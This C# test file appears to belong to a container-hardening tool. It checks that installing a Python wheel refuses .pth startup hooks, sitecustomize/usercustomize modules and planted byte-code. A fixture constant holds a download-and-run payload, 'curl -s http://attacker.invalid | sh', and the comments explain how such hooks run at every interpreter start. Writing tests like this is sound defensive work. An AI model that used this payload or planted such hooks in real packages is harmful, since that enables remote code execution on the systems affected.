using System.Text;
using HardenImage.Build;
using HardenImage.Common;
using HardenImage.Oci;
using HardenImage.Python;
using HardenImage.Tests.Python;

namespace HardenImage.Tests.Attacks;

/// <summary>
/// Threat E/T (review of the wheels branch): a hash-pinned wheel is trusted to be what was locked, not to run code in
/// every Python program of the image. A .pth at the top of site-packages (site.py executes its "import" lines at every
/// interpreter start) or a sitecustomize/usercustomize module does exactly that, even when nothing imports the wheel;
/// and a shipped .pyc is code nobody reviewed that the interpreter may run instead of the verified source.
/// </summary>
[Trait("Category", "Integration")]
public sealed class WheelStartupHookAttackTests
{
    private const string Site = "usr/local/lib/python3.13/dist-packages";
    private const string Payload = "import os; os.system('curl -s http://attacker.invalid | sh')\n";

    [Theory]
    [InlineData("hipth-1.0.data/purelib/zzz-hook.pth", "zzz-hook.pth", "a .pth file site.py processes at every interpreter start")]
    [InlineData("zzz-hook.pth", "zzz-hook.pth", "a .pth file site.py processes at every interpreter start")]
    [InlineData("hipth-1.0.data/data/lib/python3.13/dist-packages/zzz-hook.pth", "zzz-hook.pth", "a .pth file site.py processes")]
    [InlineData("sitecustomize.py", "sitecustomize.py", "the sitecustomize module site.py imports at every interpreter start")]
    [InlineData("usercustomize/__init__.py", "usercustomize/__init__.py", "the usercustomize module site.py imports")]
    public async Task Wheel_InstallingAStartupHookThatRunsInEveryInterpreter_IsRefused_NamingTheFileAndTheAllowance(string entry, string installed, string reason)
    {
        using var ws = new PythonImageSet();
        var w = new WheelBuilder("hipth", "1.0").File("hipth/__init__.py", "ok\n").File(entry, Payload);
        var tree = new FsTree();
        var e = await Assert.ThrowsAsync<HardenException>(() => WheelInstallTests.LockAndInstall(ws, w, tree: tree));
        Assert.True(e.Message.Contains($"wheel hipth-1.0-py3-none-any.whl: installs /{Site}/{installed}, {reason}"), e.Message);
        Assert.Contains("allow: {pythonStartupHooks: [pypi:hipth]}", e.Message);
        Assert.Null(tree.Get($"{Site}/{installed}"));
    }

    [Fact]
    public async Task Wheel_StartupHookAllowedForThatWheel_IsInstalled_AndOnlyForThatWheel()
    {
        using var ws = new PythonImageSet();
        var w = new WheelBuilder("hipth", "1.0").File("hipth/__init__.py", "ok\n").File("hipth-nspkg.pth", "import hipth\n");
        var tree = await WheelInstallTests.LockAndInstall(ws, w, extra: "allow: {pythonStartupHooks: [pypi:hipth]}");
        Assert.Equal("import hipth\n", WheelInstallTests.Text(ws, tree, $"{Site}/hipth-nspkg.pth"));

        using var other = new PythonImageSet();
        var e = await Assert.ThrowsAsync<HardenException>(() => WheelInstallTests.LockAndInstall(other, w, extra: "allow: {pythonStartupHooks: [pypi:someone-else]}"));
        Assert.Contains($"installs /{Site}/hipth-nspkg.pth", e.Message);
    }

    [Fact]
    public async Task Wheel_PthInsideItsOwnPackage_IsNotAHook_AndInstalls()
    {
        // site.py reads .pth files only at the top of a site directory.
        using var ws = new PythonImageSet();
        var w = new WheelBuilder("hipth", "1.0").File("hipth/__init__.py", "ok\n").File("hipth/data/readme.pth", "not a hook\n");
        var tree = await WheelInstallTests.LockAndInstall(ws, w);
        Assert.NotNull(tree.Get($"{Site}/hipth/data/readme.pth"));
    }

    [Fact]
    public async Task Wheel_PlantingAPycThatShadowsCompiledOutput_IsNotInstalled()
    {
        // A timestamp .pyc whose header matches the layer's fixed mtime and the source size would be run instead of
        // the verified mod.py whenever the byte-code transform does not replace it (allow: noByteCode, byteCodeErrors).
        using var ws = new PythonImageSet();
        var w = new WheelBuilder("hipyc", "1.0").File("hipyc/__init__.py", "ok\n").File("hipyc/mod.py", "x = 1\n")
            .File("hipyc/__pycache__/mod.cpython-313.pyc", Encoding.UTF8.GetBytes("\xf3\r\r\nplanted-code"))
            .File("hipyc-1.0.data/purelib/other/__pycache__/x.cpython-313.pyc", "planted");
        var tree = await WheelInstallTests.LockAndInstall(ws, w);
        Assert.NotNull(tree.Get($"{Site}/hipyc/mod.py"));
        Assert.Null(tree.Get($"{Site}/hipyc/__pycache__/mod.cpython-313.pyc"));
        Assert.Null(tree.Get($"{Site}/other/__pycache__/x.cpython-313.pyc"));
        Assert.DoesNotContain("__pycache__", WheelInstallTests.Text(ws, tree, $"{Site}/hipyc-1.0.dist-info/RECORD"));
    }

    [Theory]
    [InlineData("hipyc/secret.pyc")]
    [InlineData("json.pyo")]
    public async Task Wheel_ShippingSourcelessByteCode_IsRefused(string entry)
    {
        using var ws = new PythonImageSet();
        var w = new WheelBuilder("hipyc", "1.0").File("hipyc/__init__.py", "ok\n").File(entry, "opaque");
        var e = await Assert.ThrowsAsync<HardenException>(() => WheelInstallTests.LockAndInstall(ws, w));
        Assert.Contains($"wheel hipyc-1.0-py3-none-any.whl: '{entry}' is byte-code without its source (/{Site}/{entry}); refused", e.Message);
    }
}
